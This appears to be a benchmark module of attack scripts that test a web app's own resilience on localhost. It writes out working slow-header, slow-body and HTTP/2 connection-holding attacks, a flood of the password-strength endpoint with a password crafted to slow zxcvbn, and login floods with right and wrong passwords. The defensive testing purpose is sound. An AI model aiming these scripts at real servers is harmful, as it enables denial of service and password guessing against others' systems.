"""The attackers of attack.py; each runs as `python -m bench.attackers KIND PORT SECONDS`.

Their connections come from 127.0.0.2, so that the app counts them apart from honest clients.
"""

import json
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

from tests.support.browser import PASSWORD

SOURCE, TIMEOUT = ("127.0.0.2", 0), 10
CONNECTIONS, THREADS = 400, 12
# The account whose password the attacker knows.
ACCOUNT = "attacker@example.com"
HEAD = b"%s HTTP/1.1\r\nHost: localhost\r\n"
JSON = b"Sec-Fetch-Site: same-origin\r\nContent-Type: application/json\r\n"
LENGTH = b"Content-Length: %d\r\n\r\n"
LOGIN, METER = b"POST /api/v1/auth/login", b"POST /password-strength"
# A password that takes zxcvbn long to estimate.
SLOW_PASSWORD = "+@h4246ge+@h4246g1+@b424611+@h42w6ga9" * 4


def connect(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), TIMEOUT, SOURCE)


def hold(port: int, end: float, first: bytes, more: bytes) -> None:
    """Keep 400 requests open that never end; replace those that the server closes."""
    held: list[socket.socket] = []
    while time.monotonic() < end:
        while len(held) < CONNECTIONS:
            with suppress(OSError):
                made = connect(port)
                made.sendall(first)
                held.append(made)
        time.sleep(2)
        for each in held[:]:
            try:
                each.sendall(more)
            except OSError:
                held.remove(each)


def slow_heads(port: int, end: float) -> None:
    hold(port, end, HEAD % b"GET /login", b"X-More: 1\r\n")


def slow_bodies(port: int, end: float) -> None:
    hold(port, end, HEAD % LOGIN + JSON + LENGTH % 4000, b" ")


def http_2(port: int, end: float) -> None:
    hold(
        port,
        end,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
        b"\0\0\0\x04\x01\0\0\0\0",
    )


def flood(port: int, end: float, line: bytes, body: Callable[[int], object]) -> None:
    """Send requests without pause, in twelve threads."""

    def send(thread: int) -> None:
        count = thread
        while time.monotonic() < end:
            data = json.dumps(body(count)).encode()
            count += THREADS
            with suppress(OSError), connect(port) as made:
                head = HEAD % line + b"Connection: close\r\n" + JSON
                made.sendall(head + LENGTH % len(data) + data)
                while made.recv(4096):
                    pass

    threads = [threading.Thread(target=send, args=(each,)) for each in range(THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def password_meter(port: int, end: float) -> None:
    flood(port, end, METER, lambda count: {"password": f"{count}{SLOW_PASSWORD}"})


def right_passwords(port: int, end: float) -> None:
    flood(port, end, LOGIN, lambda _: {"email": ACCOUNT, "password": PASSWORD})


def wrong_passwords(port: int, end: float) -> None:
    def guess(count: int) -> dict[str, str]:
        return {"email": f"person-{count}@example.com", "password": f"not this one {count}"}

    flood(port, end, LOGIN, guess)


KINDS = {
    attack.__name__: attack
    for attack in (
        slow_heads,
        slow_bodies,
        http_2,
        password_meter,
        right_passwords,
        wrong_passwords,
    )
}

if __name__ == "__main__":
    KINDS[sys.argv[1]](int(sys.argv[2]), time.monotonic() + float(sys.argv[3]))
